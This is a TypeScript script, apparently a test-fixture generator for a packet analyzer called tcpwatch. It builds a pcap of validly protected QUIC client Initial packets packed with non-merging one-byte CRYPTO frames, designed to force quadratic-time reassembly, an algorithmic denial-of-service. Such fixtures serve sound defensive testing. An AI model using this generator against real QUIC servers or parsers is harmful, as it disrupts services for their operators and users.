// An attack on QUIC CRYPTO reassembly: client Initial packets, protected with the keys anyone
// derives from the Destination Connection ID (RFC 9001 §5.2), full of one-byte CRYPTO frames at
// every other offset of the 64 KiB tcpwatch collects, so that no two ranges ever merge. A reader
// that rebuilds its list of received ranges for each frame spends time quadratic in their number.
//
//   node dist/scripts/attacks/quic-crypto-flood.js OUT.pcap [PACKETS]
//
// writes the datagrams as a pcap (Ethernet/IPv4/UDP to port 443); tests import the datagrams.

import * as fs from 'node:fs';
import { createCipheriv } from 'node:crypto';
import { initialKeys, QUIC_V1, MAX_CRYPTO_BYTES } from '../../src/protocols/quic/initial';

const DCID = Buffer.from('8394c8f03e515708', 'hex');
const PN_LEN = 4;
const TAG_LEN = 16;
/** A client Initial must fill a datagram of at least 1200 bytes (RFC 9000 §14.1); stay just above it. */
const PAYLOAD_BUDGET = 1200;
const CRYPTO_FRAME = 0x06;

function varint(v: number): Buffer {
  if (v < 0x40) return Buffer.from([v]);
  if (v < 0x4000) return Buffer.from([0x40 | (v >> 8), v & 0xff]);
  const b = Buffer.alloc(4);
  b.writeUInt32BE((0x80000000 | v) >>> 0);
  return b;
}

/** One protected client Initial whose frames are `frames` (plaintext), with packet number `pn`. */
export function protectedInitial(frames: Buffer, pn: number, dcid: Buffer = DCID): Buffer {
  const keys = initialKeys(QUIC_V1, dcid, false);
  const length = PN_LEN + frames.length + TAG_LEN;
  const pnBytes = Buffer.alloc(PN_LEN);
  pnBytes.writeUInt32BE(pn);
  const header = Buffer.concat([
    Buffer.from([0xc0 | (PN_LEN - 1)]), Buffer.from([0, 0, 0, QUIC_V1]),
    Buffer.from([dcid.length]), dcid, Buffer.from([0]), // no Source Connection ID
    varint(0), // no token
    varint(length), pnBytes,
  ]);
  const nonce = Buffer.from(keys.iv);
  for (let i = 0; i < PN_LEN; i++) nonce[nonce.length - PN_LEN + i] ^= pnBytes[i];
  const aead = createCipheriv('aes-128-gcm', keys.key, nonce);
  aead.setAAD(header);
  const sealed = Buffer.concat([aead.update(frames), aead.final(), aead.getAuthTag()]);
  const packet = Buffer.concat([header, sealed]);
  // Header protection (RFC 9001 §5.4): the sample starts 4 bytes after the packet number's start.
  const pnOffset = header.length - PN_LEN;
  const hp = createCipheriv('aes-128-ecb', keys.hp, null);
  hp.setAutoPadding(false);
  const mask = hp.update(packet.subarray(pnOffset + 4, pnOffset + 4 + 16));
  packet[0] ^= mask[0] & 0x0f;
  for (let i = 0; i < PN_LEN; i++) packet[pnOffset + i] ^= mask[1 + i];
  return packet;
}

/**
 * UDP payloads of the flood: `packets` Initials (at most as many as it takes to cover the 64 KiB
 * at every other offset), each with as many one-byte CRYPTO frames as fit.
 */
export function quicCryptoFloodDatagrams(packets = 186): Buffer[] {
  const out: Buffer[] = [];
  let offset = 1; // offset 0 never arrives, so nothing is ever handed on and every range stays
  for (let pn = 0; pn < packets && offset < MAX_CRYPTO_BYTES; pn++) {
    const frames: Buffer[] = [];
    let size = 0;
    while (offset < MAX_CRYPTO_BYTES) {
      const f = Buffer.concat([Buffer.from([CRYPTO_FRAME]), varint(offset), varint(1), Buffer.from([0x16])]);
      if (size + f.length > PAYLOAD_BUDGET) break;
      frames.push(f);
      size += f.length;
      offset += 2;
    }
    out.push(protectedInitial(Buffer.concat(frames), pn));
  }
  return out;
}

/** One Ethernet/IPv4/UDP frame from 10.0.0.1:`srcPort` to 10.0.0.2:`dstPort` carrying `p`. */
export function udpFrame(p: Buffer, dstPort = 443, srcPort = 50000): Buffer {
  const eth = Buffer.from('020000000002020000000001' + '0800', 'hex');
  const ip = Buffer.alloc(20);
  ip[0] = 0x45;
  ip.writeUInt16BE(20 + 8 + p.length, 2);
  ip[8] = 64;
  ip[9] = 17;
  Buffer.from([10, 0, 0, 1, 10, 0, 0, 2]).copy(ip, 12);
  let sum = 0;
  for (let k = 0; k < 20; k += 2) sum += ip.readUInt16BE(k);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  ip.writeUInt16BE(~sum & 0xffff, 10);
  const udp = Buffer.alloc(8);
  udp.writeUInt16BE(srcPort, 0);
  udp.writeUInt16BE(dstPort, 2);
  udp.writeUInt16BE(8 + p.length, 4);
  return Buffer.concat([eth, ip, udp, p]);
}

/** A classic pcap of Ethernet/IPv4/UDP frames from 10.0.0.1:50000 to 10.0.0.2:443, one per payload. */
export function udpPcap(payloads: Buffer[], dstPort = 443): Buffer {
  const parts: Buffer[] = [];
  const fileHeader = Buffer.alloc(24);
  fileHeader.writeUInt32LE(0xa1b2c3d4, 0);
  fileHeader.writeUInt16LE(2, 4);
  fileHeader.writeUInt16LE(4, 6);
  fileHeader.writeUInt32LE(262144, 16);
  fileHeader.writeUInt32LE(1, 20); // LINKTYPE_ETHERNET
  parts.push(fileHeader);
  payloads.forEach((p, i) => {
    const frame = udpFrame(p, dstPort);
    const rec = Buffer.alloc(16);
    rec.writeUInt32LE(1_700_000_000 + Math.floor(i / 1000), 0);
    rec.writeUInt32LE((i % 1000) * 1000, 4);
    rec.writeUInt32LE(frame.length, 8);
    rec.writeUInt32LE(frame.length, 12);
    parts.push(rec, frame);
  });
  return Buffer.concat(parts);
}

if (require.main === module) {
  const [out, n] = process.argv.slice(2);
  if (out === undefined) {
    process.stderr.write('usage: quic-crypto-flood OUT.pcap [PACKETS]\n');
    process.exit(2);
  }
  const datagrams = quicCryptoFloodDatagrams(n === undefined ? undefined : Number(n));
  fs.writeFileSync(out, udpPcap(datagrams));
  process.stdout.write(`${out}: ${datagrams.length} QUIC Initial packets, ${datagrams.reduce((a, d) => a + d.length, 0)} bytes of UDP payload\n`);
}
